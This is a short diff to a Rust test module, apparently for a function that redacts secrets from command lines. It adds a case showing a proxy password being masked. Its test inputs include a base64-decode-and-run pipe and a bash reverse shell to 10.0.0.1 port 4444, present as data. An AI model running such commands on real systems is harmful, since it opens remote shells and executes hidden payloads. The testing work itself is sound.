@@ -114,6 +114,10 @@ mod tests {
                 "-----BEGIN PRIVATE KEY-----[REDACTED]",
             ),
             ("ls -la /tmp", "ls -la /tmp"),
+            (
+                "echo x | base64 -d | sh; cp /bin/true /dev/shm/rw-$$ && HTTPS_PROXY=http://bob:hunter2@127.0.0.1:9 /t/x; true",
+                "echo x | base64 -d | sh; cp /bin/true /dev/shm/rw-$$ && HTTPS_PROXY=http://bob:[REDACTED]@127.0.0.1:9 /t/x; true",
+            ),
             ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
         ];
         for (input, want) in cases {
